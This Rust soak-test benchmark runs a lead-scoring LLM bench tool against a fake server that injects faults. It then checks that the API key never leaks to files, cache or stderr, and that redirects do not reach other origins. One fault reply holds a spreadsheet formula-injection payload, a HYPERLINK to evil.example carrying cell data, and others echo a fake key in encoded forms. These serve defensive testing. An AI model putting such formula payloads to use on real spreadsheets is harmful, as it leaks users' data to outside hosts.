//! Fault soak: the whole `bench run` (the release binary as a child process under
//! `/usr/bin/time -v`) against a loopback server that mixes every fault it can make, then
//! checks what the run left behind. Not a timed test: it prints what it measures and fails
//! when a promise is broken.
//!
//! `cargo bench --bench soak [-- N_LEADS]` (default 2,500 leads: 1,000 test leads × 2
//! prompts × 3 repeats = 6,000 jobs for the faulty model, plus as many for two models that
//! fail fast). The faulty model sees 429s with hints, 500/503/408, hangs past `timeout_s`,
//! bodies cut off mid-stream, HTML, truncated answers, bodies over `max_response_bytes`,
//! endless bodies, the key echoed in answers, prose and extra fields (also upper-cased),
//! NUL characters, formula justifications, out-of-range values, a 400 that quotes the
//! key after 290 characters, and the key JSON-escaped (`\u002d`), percent-encoded, in base64
//! and cut to its first 8 and 16 characters. A second model answers 401 with the key; a third redirects to
//! another origin.
//!
//! Checked: every job has exactly one prediction; no panic; exit code 1 naming exactly the
//! two failing models' scorers; the key (its first 8 characters, any 12-character piece,
//! plain or escaped, its base64), in any case, is in no file of the run folder, nowhere in
//! the cache (`strings`) and not on stderr; the other origin got no request. Printed: requests, statuses, wall time and peak RSS.

#[path = "../tests/it/support/fake_openai.rs"]
mod fake_openai;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::Instant;

use fake_openai::{FakeServer, Reply, Seen};

const KEY: &str = "sk-soak-VerySecretKey-5f3a9c0e71b24d68";
const GOOD: &str =
    r#"{"lead_score": 80, "lead_label": "high", "justification": "VP, pricing, this quarter"}"#;
const CAP: usize = 256 * 1024;

fn bench_bin() -> PathBuf {
    std::env::var_os("BENCH_BIN").map_or_else(|| env!("CARGO_BIN_EXE_bench").into(), Into::into)
}

/// A stable number per request text, to spread the faults over the leads.
fn bucket(text: &str) -> u32 {
    text.bytes().fold(2_166_136_261u32, |h, b| {
        (h ^ u32::from(b)).wrapping_mul(16_777_619)
    }) % 24
}

fn base64(text: &str) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(text)
}

/// The faulty model: one fault per bucket, the transient ones on the first attempt only.
fn faulty(s: &Seen) -> Reply {
    let key = s.auth.unwrap_or("");
    match (bucket(s.user), s.attempt) {
        (0, 1) => Reply::error(429, "Rate limit reached").header("retry-after-ms", "50"),
        (1, 1) => Reply::error(500, "internal error"),
        (2, 1 | 2) => Reply::raw(503, "Service Unavailable"),
        (3, 1) => Reply::error(408, "request timeout"),
        (4, 1) => Reply::Hang,
        (5, 1) => Reply::Broken {
            first: r#"{"choices": [{"message": {"content": "#.into(),
        },
        (6, _) => Reply::raw(200, "<html><body>502 Bad Gateway</body></html>"),
        (7, _) => Reply::answer_with(r#"{"lead_score": 8"#, "length"),
        (8, _) => Reply::raw(200, &"x".repeat(2 * CAP)),
        (9, _) => Reply::Endless {
            chunk: "{\"choices\": [".repeat(1024),
        },
        (10, _) => Reply::answer(&format!(
            r#"{{"lead_score": 75, "lead_label": "high", "justification": "your key is {key}"}}"#
        )),
        (11, _) => Reply::answer(&format!("KEY {} — {GOOD}", key.to_uppercase())),
        (12, _) => Reply::raw(
            200,
            &serde_json::json!({
                "echo": key,
                "choices": [{"message": {"content": GOOD}, "finish_reason": "stop"}],
            })
            .to_string(),
        ),
        (13, _) => Reply::answer(
            "{\"lead_score\": 55, \"lead_label\": \"medium\", \"justification\": \"a\u{0}b\"}",
        ),
        (14, _) => Reply::answer(
            r#"{"lead_score": 90, "lead_label": "high", "justification": "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")"}"#,
        ),
        (15, _) => {
            Reply::answer(r#"{"lead_score": 150, "lead_label": "high", "justification": "x"}"#)
        }
        (16, _) => Reply::answer(&format!("```json\n{GOOD}\n```")),
        (17, _) => Reply::error(400, &format!("{} {key}", "x".repeat(290))),
        // The key JSON-escaped inside the answer (it decodes to the key in the
        // justification), percent-encoded, in base64 behind `Bearer `, and cut short.
        (18, _) => Reply::answer(&format!(
            r#"{{"lead_score": 70, "lead_label": "medium", "justification": "{}"}}"#,
            key.replace('-', "\\u002d")
        )),
        (19, _) => Reply::raw(
            200,
            &serde_json::json!({
                "echo": key.replace('-', "%2D"),
                "auth": base64(&format!("Bearer {key}")),
                "choices": [{"message": {"content": GOOD}, "finish_reason": "stop"}],
            })
            .to_string(),
        ),
        (20, _) => Reply::raw(
            400,
            &format!(
                r#"{{"error": {{"message": "bad key {} (or {})"}}}}"#,
                &key[..8.min(key.len())],
                key.get(..16).unwrap_or(key).replace('-', "\\u002d")
            ),
        ),
        _ => Reply::answer(GOOD),
    }
}

fn config(dir: &Path, n_leads: u64, url: &str) -> PathBuf {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let model = |name: &str, extra: &str| {
        format!(
            "[[models]]\nname = \"{name}\"\nmodel = \"{name}\"\nbase_url = \"{url}\"\n\
             api_key_env = \"SOAK_KEY\"\nstructured_output = \"json_object\"\n\
             max_retries = 3\n{extra}\n"
        )
    };
    let text = format!(
        "[run]\nname = \"soak\"\nresults_dir = \"{results}\"\ncache = \"{cache}\"\nrepeats = 3\n\
         [dataset.generate]\nn = {n_leads}\nseed = 11\ntest_fraction = 0.4\n\
         [baselines]\nheuristic = true\nlearned = false\n\
         {faulty}{unauthorized}{redirected}\
         [[prompts]]\nname = \"zero_shot\"\npath = {zero:?}\n\
         [[prompts]]\nname = \"rubric\"\npath = {rubric:?}\n",
        results = dir.join("results").display(),
        cache = dir.join("cache.sqlite").display(),
        faulty = model(
            "faulty",
            &format!("concurrency = 32\ntimeout_s = 1\nmax_response_bytes = {CAP}")
        ),
        unauthorized = model("unauthorized", "concurrency = 4"),
        redirected = model("redirected", "concurrency = 4"),
        zero = root.join("prompts/zero_shot.j2").display().to_string(),
        rubric = root.join("prompts/rubric.j2").display().to_string(),
    );
    let path = dir.join("config.toml");
    std::fs::write(&path, text).expect("config written");
    path
}

/// Every file under `dir`, as text.
fn files_under(dir: &Path, out: &mut Vec<(PathBuf, String)>) {
    for entry in std::fs::read_dir(dir).expect("read dir").flatten() {
        let path = entry.path();
        if path.is_dir() {
            files_under(&path, out);
        } else {
            let text = String::from_utf8_lossy(&std::fs::read(&path).expect("read")).into_owned();
            out.push((path, text));
        }
    }
}

/// Whether `text` holds the key's first 8 characters or any 12-character piece of it, in
/// any case, plain, JSON- or percent-escaped, or the key in base64.
fn holds_key(text: &str) -> bool {
    let text = text
        .to_lowercase()
        .replace("\\u002d", "-")
        .replace("%2d", "-");
    let key = KEY.to_lowercase();
    text.contains(&key[..8])
        || (0..=key.len() - 12).any(|i| text.contains(&key[i..i + 12]))
        || [base64(KEY), base64(&format!("Bearer {KEY}"))]
            .iter()
            .any(|b| text.contains(&b[12..24].to_lowercase()))
}

async fn soak(n_leads: u64) {
    let elsewhere = FakeServer::start(|_| Reply::answer(GOOD)).await;
    let target = format!("{}/chat/completions", elsewhere.url);
    let server = FakeServer::start(move |s| match s.model {
        "unauthorized" => Reply::error(
            401,
            &format!("Incorrect API key provided: {}", s.auth.unwrap_or("")),
        ),
        "redirected" => Reply::raw(307, "").header("location", &target),
        _ => faulty(s),
    })
    .await;
    let dir = tempfile::tempdir().expect("temp dir");
    let config = config(dir.path(), n_leads, &server.url);
    let out = dir.path().join("run");
    let start = Instant::now();
    let (c, o) = (config.clone(), out.clone());
    let output = tokio::task::spawn_blocking(move || {
        std::process::Command::new("/usr/bin/time")
            .arg("-v")
            .arg(bench_bin())
            .args(["run", "--quiet", "--config"])
            .arg(&c)
            .arg("--out")
            .arg(&o)
            .env("SOAK_KEY", KEY)
            .output()
            .expect("/usr/bin/time runs (apt-get install time)")
    })
    .await
    .expect("child joins");
    let wall = start.elapsed().as_secs_f64();
    let stderr = String::from_utf8_lossy(&output.stderr);
    let peak_kb: f64 = stderr
        .lines()
        .find_map(|l| l.trim().strip_prefix("Maximum resident set size (kbytes):"))
        .and_then(|v| v.trim().parse().ok())
        .expect("time -v reports the peak RSS");
    let exit = stderr
        .lines()
        .find_map(|l| l.trim().strip_prefix("Exit status:"))
        .and_then(|v| v.trim().parse::<i32>().ok());

    let mut failures = Vec::new();
    let mut check = |ok: bool, what: String| {
        if !ok {
            failures.push(what);
        }
    };
    check(!stderr.contains("panicked"), "a panic on stderr".into());
    check(exit == Some(1), format!("exit status {exit:?}, expected 1"));
    for model in ["unauthorized", "redirected"] {
        for prompt in ["zero_shot", "rubric"] {
            let line = format!("scorer llm/{model}/{prompt} produced no parsed prediction");
            check(stderr.contains(&line), format!("stderr lacks `{line}`"));
        }
    }
    check(
        !stderr.contains("scorer llm/faulty"),
        "the faulty model is reported as producing nothing".into(),
    );
    check(holds_key(KEY), "the leak check finds nothing".into());
    check(!holds_key(&stderr), "the key is on stderr".into());
    let mut files = Vec::new();
    files_under(&out, &mut files);
    for (path, text) in &files {
        check(
            !holds_key(text),
            format!("the key is in {}", path.display()),
        );
    }
    for name in ["cache.sqlite", "cache.sqlite-wal"] {
        let path = dir.path().join(name);
        if path.exists() {
            let strings = std::process::Command::new("strings")
                .arg(&path)
                .output()
                .expect("strings runs");
            let text = String::from_utf8_lossy(&strings.stdout);
            check(!holds_key(&text), format!("the key is in {name}"));
        }
    }
    check(
        elsewhere.requests() == 0,
        "a redirect reached another origin".into(),
    );

    let preds = lead_bench::prediction::read_predictions_csv(&out.join("predictions.csv"))
        .expect("predictions");
    let test_leads = lead_bench::lead::read_leads(&out.join("dataset.csv"))
        .expect("dataset")
        .iter()
        .filter(|l| l.meta.split == Some(lead_bench::lead::Split::Test))
        .count();
    let llm_jobs = 3 * 2 * 3 * test_leads;
    let mut per_job = BTreeMap::new();
    for p in &preds {
        *per_job
            .entry((p.scorer.clone(), p.lead_id.clone(), p.repeat))
            .or_insert(0u32) += 1;
    }
    check(
        preds.len() == llm_jobs + test_leads && per_job.values().all(|&n| n == 1),
        format!(
            "{} predictions ({} distinct), expected {} LLM jobs + {test_leads} heuristic",
            preds.len(),
            per_job.len(),
            llm_jobs
        ),
    );
    check(
        !preds
            .iter()
            .any(|p| p.error.contains("internal error while calling")),
        "a job ended in an internal error".into(),
    );
    let mut statuses: BTreeMap<String, BTreeMap<String, usize>> = BTreeMap::new();
    for p in preds.iter().filter(|p| p.scorer.starts_with("llm/")) {
        let model = p.scorer.split('/').nth(1).unwrap_or("").to_string();
        *statuses
            .entry(model)
            .or_default()
            .entry(p.status.as_str().to_string())
            .or_insert(0) += 1;
    }
    let info: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("run.json")).expect("run.json"))
            .expect("run.json parses");

    println!(
        "soak: {n_leads} generated leads, {test_leads} test leads × 2 prompts × 3 repeats × 3 models = {llm_jobs} LLM jobs"
    );
    println!(
        "  requests received by the server: {}; sent by bench: {} ({} retries); to the other origin: {}",
        server.requests(),
        info["llm"]["requests_sent"],
        info["llm"]["retries"],
        elsewhere.requests()
    );
    for (model, counts) in &statuses {
        println!("  {model}: {counts:?}");
    }
    println!(
        "  wall {wall:.1} s; peak RSS {:.1} MB; exit status {exit:?}; files checked for the key: {}",
        peak_kb / 1024.0,
        files.len() + 2
    );
    if failures.is_empty() {
        println!("  every check passed");
    } else {
        for f in &failures {
            println!("  FAILED: {f}");
        }
        eprintln!("{stderr}");
        std::process::exit(1);
    }
}

fn main() {
    let n = std::env::args()
        .skip(1)
        .filter(|a| !a.starts_with('-'))
        .find_map(|a| a.parse().ok())
        .unwrap_or(2_500);
    let rt = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
        .expect("tokio runtime");
    rt.block_on(soak(n));
}
